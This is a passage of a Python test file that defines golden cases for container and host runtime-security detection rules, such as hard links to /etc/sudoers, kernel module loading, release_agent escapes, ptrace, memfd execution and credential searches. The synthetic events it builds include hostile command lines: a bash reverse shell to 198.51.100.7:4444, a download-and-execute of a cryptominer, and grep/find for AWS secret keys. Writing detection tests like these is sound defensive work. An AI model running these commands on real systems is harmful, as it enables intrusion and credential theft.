        proc("ln /etc/sudoers /tmp/s", "/usr/bin/ln", HOST_SHELL_TREE, user=("alice", 1000), tty=PTS_TTY),
        evt__rawres=0,
        evt__res="SUCCESS",
        evt__arg__olddir="-100(AT_FDCWD)",
        evt__arg__oldpath="/etc/sudoers",
        evt__arg__newdir="-100(AT_FDCWD)",
        evt__arg__newpath="/tmp/s",
        evt__arg__flags="0",
    )
    return GoldenCase(
        HARDLINK,
        fires=[
            Variant("ln /etc/sudoers /tmp/s", fire),
            Variant(
                "link(2) of /etc/shadow",
                replace(
                    fire, evt__type="link", evt__arg__oldpath="/etc/shadow", evt__arg__newpath="/dev/shm/.s"
                ),
            ),
        ],
        near_misses=[
            Variant("a hard link of /etc/hosts", replace(fire, evt__arg__oldpath="/etc/hosts")),
            Variant(
                "a symlink of /etc/sudoers (the other rule)",
                replace(
                    fire, evt__type="symlinkat", evt__arg__target="/etc/sudoers", evt__arg__linkpath="/tmp/s"
                ),
                also=_s(SYMLINK),
            ),
        ],
        output_has=[
            "Hardlinks created over sensitive files",
            "target=/etc/sudoers",
            "linkpath=/tmp/s",
            "evt_type=linkat",
            "process=ln",
        ],
    )


def _packet_socket() -> GoldenCase:
    fire = evt(
        "socket",
        container("docker.io/nicolaka/netshoot", "v0.13"),
        proc("tcpdump -i eth0 -w /tmp/c.pcap", "/usr/bin/tcpdump", [("bash", "/bin/bash", "bash"), SHIM]),
        evt__rawres=3,
        evt__res="SUCCESS",
        evt__arg__domain="AF_PACKET",
        evt__arg__type="3",
        evt__arg__proto="768",
        evt__args="fd=3 domain=17(AF_PACKET) type=3 proto=768",
        fd__num=3,
    )
    return GoldenCase(
        PACKET_SOCKET,
        fires=[Variant("tcpdump opens an AF_PACKET socket in a container", fire)],
        near_misses=[
            Variant(
                "an AF_INET socket",
                replace(fire, evt__arg__domain="AF_INET", evt__args="fd=3 domain=2(AF_INET) type=1 proto=0"),
            ),
            Variant("the same AF_PACKET socket on the host", on_host(fire)),
        ],
        output_has=[
            "Packet socket was created in a container",
            "socket_info=fd=3 domain=17(AF_PACKET) type=3 proto=768",
            "evt_type=socket",
            "process=tcpdump",
        ],
    )


def _redirect() -> GoldenCase:
    fire = evt(
        "dup2",
        container("docker.io/library/python", "3.12"),
        proc(
            "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
            "/usr/bin/bash",
            [("python3", "/usr/local/bin/python3.12", "python3 app.py"), SHIM],
            user=("app", 1001),
        ),
        tcp("172.17.0.2:49152->198.51.100.7:4444"),
        evt__rawres=1,
        evt__res="SUCCESS",
        evt__arg__newfd=1,
    )
    return GoldenCase(
        REDIRECT,
        fires=[
            Variant("bash reverse shell: dup2(sock, 1)", fire),
            Variant(
                "dup3 of the socket onto stdin",
                replace(fire, evt__type="dup3", evt__rawres=0, evt__arg__newfd=0),
            ),
        ],
        near_misses=[
            Variant("the socket dup'ed onto fd 5", replace(fire, evt__rawres=5, evt__arg__newfd=5)),
            Variant(
                "a file redirected to stdout",
                replace(fire, fd__name="/tmp/out.log", fd__typechar="f", fd__type="file", fd__l4proto=None),
            ),
            Variant("the same reverse shell on the host", on_host(fire)),
        ],
        output_has=[
            "Redirect stdout/stdin to network connection",
            "gparent=containerd-shim",
            "fd.sip=198.51.100.7",
            "connection=172.17.0.2:49152->198.51.100.7:4444",
            "lport=49152",
            "rport=4444",
            "fd_type=ipv4",
            "fd_proto=tcp",
            "evt_type=dup2",
            "user=app",
            "process=bash",
            "parent=python3",
        ],
    )


def _kmod() -> GoldenCase:
    fire = evt(
        "finit_module",
        container("docker.io/library/alpine", "3.20", privileged=True),
        proc("insmod diamorphine.ko", "/sbin/insmod", [("sh", "/bin/busybox", "sh"), SHIM]),
        thread__cap_effective=CAPS_PRIVILEGED,
        evt__rawres=0,
        evt__res="SUCCESS",
        evt__arg__fd=3,
        evt__arg__uargs="",
        evt__arg__flags="0",
    )
    return GoldenCase(
        KMOD,
        fires=[
            Variant("insmod in a privileged container (finit_module)", fire),
            Variant(
                "init_module, capability named in lower case",
                replace(fire, evt__type="init_module", thread__cap_effective="cap_sys_module"),
            ),
        ],
        near_misses=[
            Variant(
                "no CAP_SYS_MODULE in the effective set",
                replace(fire, thread__cap_effective=CAPS_DEFAULT, evt__rawres=-1, evt__res="EPERM"),
            ),
            Variant("modprobe on the host", on_host(fire)),
        ],
        output_has=[
            "Linux Kernel Module injection from container",
            "parent_exepath=/bin/busybox",
            "gparent=containerd-shim",
            "gexepath=/usr/bin/containerd-shim-runc-v2",
            "module=diamorphine.ko",
            "res=SUCCESS",
            "evt_type=finit_module",
            "process=insmod",
        ],
    )


def _debugfs() -> GoldenCase:
    fire = evt(
        "execve",
        container("docker.io/library/ubuntu", "24.04", privileged=True),
        proc(
            "debugfs /dev/sda1", "/usr/sbin/debugfs", [("bash", "/usr/bin/bash", "bash"), SHIM], tty=PTS_TTY
        ),
        execd(),
    )
    return GoldenCase(
        DEBUGFS,
        fires=[Variant("debugfs /dev/sda1 in a privileged container", fire)],
        near_misses=[
            Variant("the same in an unprivileged container", replace(fire, container__privileged=False)),
            Variant("debugfs on the host", on_host(fire)),
            Variant(
                "privileged, but the program is fsck",
                replace(
                    fire,
                    proc__name="fsck",
                    proc__exepath="/usr/sbin/fsck",
                    proc__exe="fsck",
                    proc__cmdline="fsck /dev/sda1",
                ),
            ),
        ],
        output_has=[
            "Debugfs launched started in a privileged container",
            "evt_type=execve",
            "process=debugfs",
            "proc_exepath=/usr/sbin/debugfs",
            "command=debugfs /dev/sda1",
        ],
    )


def _release_agent() -> GoldenCase:
    fire = evt(
        "openat",
        container("docker.io/library/ubuntu", "24.04", privileged=True),
        proc(
            "sh -c echo /cmd > /tmp/cgrp/release_agent",
            "/usr/bin/dash",
            [("bash", "/usr/bin/bash", "bash"), SHIM],
        ),
        opened("/tmp/cgrp/release_agent", "O_WRONLY|O_CREAT|O_TRUNC", 3),
        thread__cap_effective=CAPS_SYS_ADMIN,
    )
    return GoldenCase(
        RELEASE_AGENT,
        fires=[
            Variant("root with CAP_SYS_ADMIN writes release_agent", fire),
            Variant(
                "non-root with CAP_DAC_OVERRIDE and CAP_SYS_ADMIN",
                replace(fire, user__uid=1000, user__name="alice"),
            ),
        ],
        near_misses=[
            Variant("without CAP_SYS_ADMIN", replace(fire, thread__cap_effective=CAPS_DEFAULT)),
            Variant("release_agent opened for reading", replace(fire, evt__arg__flags="O_RDONLY")),
            Variant("the same write on the host", on_host(fire)),
            Variant(
                "non-root without CAP_DAC_OVERRIDE",
                replace(
                    fire, user__uid=1000, user__name="alice", thread__cap_effective="CAP_CHOWN CAP_SYS_ADMIN"
                ),
            ),
        ],
        output_has=[
            "Detect an attempt to exploit a container escape using release_agent file",
            "file=/tmp/cgrp/release_agent",
            f"cap_effective={CAPS_SYS_ADMIN}",
            "evt_type=openat",
            "user_uid=0",
            "process=sh",
        ],
    )


def _ptrace_attach() -> GoldenCase:
    fire = evt(
        "ptrace",
        host(),
        proc("gdb -p 1342", "/usr/bin/gdb", HOST_SHELL_TREE, tty=PTS_TTY),
        evt__rawres=0,
        evt__res="SUCCESS",
        evt__arg__request="PTRACE_ATTACH",
        evt__arg__pid=1342,
    )
    return GoldenCase(
        PTRACE_ATTACH,
        fires=[
            Variant("gdb -p attaches (PTRACE_ATTACH)", fire),
            Variant(
                "code injection with PTRACE_POKETEXT", replace(fire, evt__arg__request="PTRACE_POKETEXT")
            ),
            Variant(
                "strace -p uses PTRACE_SEIZE",
                replace(
                    fire,
                    evt__arg__request="PTRACE_SEIZE",
                    proc__name="strace",
                    proc__cmdline="strace -p 1342",
                ),
            ),
        ],
        near_misses=[
            Variant(
                "reading registers only (PTRACE_GETREGS)", replace(fire, evt__arg__request="PTRACE_GETREGS")
            ),
            Variant(
                "PTRACE_TRACEME (the anti-debug rule, not this one)",
                replace(fire, evt__arg__request="PTRACE_TRACEME"),
                also=_s(PTRACE_ANTIDEBUG),
            ),
            Variant("process name unknown", replace(fire, proc__name="<NA>")),
        ],
        output_has=[
            "Detected ptrace PTRACE_ATTACH attempt",
            "proc_pcmdline=bash",
            "evt_type=ptrace",
            "process=gdb",
            "command=gdb -p 1342",
        ],
    )


def _ptrace_antidebug() -> GoldenCase:
    fire = evt(
        "ptrace",
        container("docker.io/library/alpine", "3.20"),
        proc("./kinsing", "/tmp/kinsing", [("sh", "/bin/busybox", "sh -c ./kinsing"), SHIM], cwd="/tmp/"),
        evt__rawres=0,
        evt__res="SUCCESS",
        evt__arg__request="PTRACE_TRACEME",
        evt__arg__pid=0,
    )
    return GoldenCase(
        PTRACE_ANTIDEBUG,
        fires=[Variant("malware calls ptrace(PTRACE_TRACEME)", fire)],
        near_misses=[
            Variant("PTRACE_CONT", replace(fire, evt__arg__request="PTRACE_CONT")),
            Variant("process name unknown (N/A)", replace(fire, proc__name="N/A")),
        ],
        output_has=[
            "Detected potential PTRACE_TRACEME anti-debug attempt",
            "proc_pcmdline=sh -c ./kinsing",
            "evt_type=ptrace",
            "process=kinsing",
            "proc_exepath=/tmp/kinsing",
        ],
    )


def _aws_creds() -> GoldenCase:
    grep = evt(
        "execve",
        host(),
        proc(
            "grep -ri aws_secret_access_key /home",
            "/usr/bin/grep",
            HOST_SHELL_TREE,
            user=("alice", 1000),
            loginuid=1000,
            tty=PTS_TTY,
            cwd="/home/alice/",
        ),
        execd(),
    )
    find = evt(
        "execve",
        container("docker.io/library/debian", "12"),
        proc("find / -wholename */.aws/credentials", "/usr/bin/find", [("sh", "/usr/bin/dash", "sh"), SHIM]),
        execd(),
    )
    return GoldenCase(
        AWS_CREDS,
        fires=[
            Variant("grep for aws_secret_access_key", grep),
            Variant(
                "grep, upper-case key name (icontains)",
                replace(
                    grep, proc__cmdline="grep -r AWS_ACCESS_KEY_ID /", proc__args="-r AWS_ACCESS_KEY_ID /"
                ),
            ),
            Variant("find for .aws/credentials", find),
        ],
        near_misses=[
            Variant(
                "grep for aws_region",
                replace(grep, proc__cmdline="grep -ri aws_region /home", proc__args="-ri aws_region /home"),
            ),
            Variant(
                "find for .aws/config",
                replace(
                    find,
                    proc__cmdline="find / -wholename */.aws/config",
                    proc__args="/ -wholename */.aws/config",
                ),
            ),
            Variant(
                "cat of the credentials file (neither grep nor find)",
                replace(
                    find,
                    proc__name="cat",
                    proc__exepath="/usr/bin/cat",
                    proc__exe="cat",
                    proc__cmdline="cat /root/.aws/credentials",
                    proc__args="/root/.aws/credentials",
                ),
            ),
        ],
        output_has=[
            "Detected AWS credentials search activity",
            "proc_pcmdline=bash",
            "proc_cwd=/home/alice/",
            "group_gid=1000",
            "group_name=alice",
            "user_loginname=alice",
            "process=grep",
            "command=grep -ri aws_secret_access_key /home",
        ],
    )


def _dev_shm() -> GoldenCase:
    fire = evt(
        "execve",
        host(),
        proc(
            "/dev/shm/xmrig -o pool.example:3333",
            "/dev/shm/xmrig",
            HOST_SHELL_TREE,
            tty=PTS_TTY,
            cwd="/root/",
        ),
        execd("EXE_WRITABLE"),
    )
    return GoldenCase(
        DEV_SHM,
        fires=[
            Variant("a miner executed from /dev/shm on the host", fire),
            Variant(
                "sh /dev/shm/x.sh in a container",
                evt(
                    "execve",
                    container("docker.io/library/alpine", "3.20"),
                    proc("sh /dev/shm/x.sh", "/bin/busybox", [("sh", "/bin/busybox", "sh"), SHIM]),
                    execd(),
                ),
            ),
            Variant(
                "./payload with the working directory in /dev/shm",
                replace(
                    fire,
                    proc__exe="./payload",
                    proc__exepath="/dev/shm/.x/payload",
                    proc__name="payload",
                    proc__cmdline="payload",
                    proc__args="",
                    proc__cwd="/dev/shm/.x/",
                ),
            ),
        ],
        near_misses=[
            Variant(
                "the same miner executed from /tmp",
                replace(
                    fire,
                    proc__exe="/tmp/xmrig",
                    proc__exepath="/tmp/xmrig",
                    proc__cmdline="xmrig -o pool.example:3333",
                ),
            ),
            Variant(
                "from /dev/shm in an allowed privileged image (sysdig/sysdig)",
                replace(
                    fire,
                    **{
                        k.replace(".", "__"): v
                        for k, v in container("docker.io/sysdig/sysdig", "0.39").items()
                    },
                ),
            ),
            Variant(
                "./payload with the working directory /tmp",
                replace(
                    fire,
                    proc__exe="./payload",
                    proc__exepath="/tmp/payload",
                    proc__name="payload",
                    proc__cmdline="payload",
                    proc__args="",
                    proc__cwd="/tmp/",
                ),
            ),
        ],
        output_has=[
            "File execution detected from /dev/shm",
            "evt_res=SUCCESS",
            "proc_cwd=/root/",
            "proc_pcmdline=bash",
            "process=xmrig",
            "proc_exepath=/dev/shm/xmrig",
            "command=xmrig -o pool.example:3333",
            "exe_flags=EXE_WRITABLE",
        ],
    )


def _drop_exec() -> GoldenCase:
    fire = evt(
        "execve",
        container("docker.io/library/python", "3.12"),
        proc(
            "/tmp/kdevtmpfsi",
            "/tmp/kdevtmpfsi",
            [("sh", "/usr/bin/dash", "sh -c curl -o /tmp/kdevtmpfsi x; /tmp/kdevtmpfsi"), SHIM],
        ),
        execd("EXE_WRITABLE|EXE_UPPER_LAYER"),
        proc__is_exe_upper_layer=True,
    )
    return GoldenCase(
        DROP_EXEC,
        fires=[Variant("a binary dropped in /tmp is executed", fire)],
        near_misses=[
            Variant(
                "a binary of the image (lower layer)",
                replace(fire, proc__is_exe_upper_layer=False, evt__arg__flags="0"),
            ),
            Variant("the same dropped binary on the host", on_host(fire)),
        ],
        output_has=[
            "Executing binary not part of base image",
            "proc_exe=/tmp/kdevtmpfsi",
            "gparent=containerd-shim",
            "process=kdevtmpfsi",
            "parent=sh",
            "exe_flags=EXE_WRITABLE|EXE_UPPER_LAYER",
        ],
    )


def _ssh_port() -> GoldenCase:
    fire = evt(
        "connect",
        host(),
        proc(
            "ssh -p 443 -R 9000:localhost:22 tunnel@203.0.113.10",
            "/usr/bin/ssh",
            HOST_SHELL_TREE,
            exe="/usr/bin/ssh",
            tty=PTS_TTY,
        ),
        tcp("192.168.1.20:51234->203.0.113.10:443"),
    )
    return GoldenCase(
        SSH_PORT,
        fires=[
            Variant("ssh to a public address on port 443", fire),
            Variant(
                "non-blocking connect in progress (EINPROGRESS), port 4444",
                replace(
                    fire,
                    fd__name="192.168.1.20:51234->203.0.113.10:4444",
                    evt__rawres=-115,
                    evt__res="EINPROGRESS",
                ),
            ),
        ],
        near_misses=[
            Variant("ssh on port 22", replace(fire, fd__name="192.168.1.20:51234->203.0.113.10:22")),
            Variant(
                "ssh to a private address (RFC 1918) on port 443",
                replace(fire, fd__name="192.168.1.20:51234->10.20.0.5:443"),
            ),
            Variant("ssh to localhost:443", replace(fire, fd__name="127.0.0.1:51234->127.0.0.1:443")),
            Variant(
                "curl, not ssh, to the same address",
                replace(
                    fire,
                    proc__name="curl",
                    proc__exe="curl",
                    proc__exepath="/usr/bin/curl",
                    proc__cmdline="curl https://203.0.113.10/",
                    proc__args="https://203.0.113.10/",
                ),
            ),
            Variant(
                "the connect failed (ECONNREFUSED)", replace(fire, evt__rawres=-111, evt__res="ECONNREFUSED")
            ),
        ],
        output_has=[
            "Disallowed SSH Connection",
            "connection=192.168.1.20:51234->203.0.113.10:443",
            "lport=51234",
            "rport=443",
            "fd_type=ipv4",
            "fd_proto=tcp",
            "evt_type=connect",
            "process=ssh",
        ],
    )


def _memfd() -> GoldenCase:
    fire = evt(
        "execveat",
        host(),
        proc(
            "3 --daemon",
            "/memfd:payload (deleted)",
            [
                ("python3", "/usr/bin/python3.11", "python3 -c import os; fd = os.memfd_create('payload')"),
                *HOST_SHELL_TREE,
            ],
            exe="/proc/self/fd/3",
        ),
        execd("EXE_WRITABLE|EXE_FROM_MEMFD"),
        proc__is_exe_from_memfd=True,
    )
    return GoldenCase(
        MEMFD,
        fires=[
            Variant("python execs a payload from a memfd", fire),
            Variant(
                "the same in a container, by execve",
                replace(
                    fire, evt__type="execve", **{k.replace(".", "__"): v for k, v in container().items()}
                ),
            ),
        ],
        near_misses=[
            Variant(
                "runc re-executing itself from a memfd (known process)",
                replace(fire, proc__pname="runc", proc__aname=["runc", "containerd-shim"]),
            ),
            Variant(
                "runc's cloned binary by exepath",
                replace(fire, proc__exepath="memfd:runc_cloned:/proc/self/exe", proc__name="runc:[1:CHILD]"),
            ),
            Variant(
                "an ordinary exec (not from a memfd)",
                replace(fire, proc__is_exe_from_memfd=False, evt__arg__flags="EXE_WRITABLE"),
            ),
        ],
        output_has=[
            "Fileless execution via memfd_create",
            "evt_res=SUCCESS",
            "gparent=bash",
            "evt_type=execveat",
            "process=3",
            "proc_exepath=/memfd:payload (deleted)",
            "parent=python3",
            "exe_flags=EXE_WRITABLE|EXE_FROM_MEMFD",
        ],
    )


CASES: list[GoldenCase] = [
    _dir_traversal(),
    _read_trusted(),
    _read_untrusted(),
    _run_shell(),
    _system_user(),
    _terminal_shell(),
    _k8s_api(),
    _netcat(),
    _search_keys(),
    _clear_log(),
    _remove_data(),
    _symlink(),
    _hardlink(),
    _packet_socket(),
    _redirect(),
    _kmod(),
    _debugfs(),
    _release_agent(),
    _ptrace_attach(),
    _ptrace_antidebug(),
    _aws_creds(),
    _dev_shm(),
    _drop_exec(),
    _ssh_port(),
    _memfd(),
]
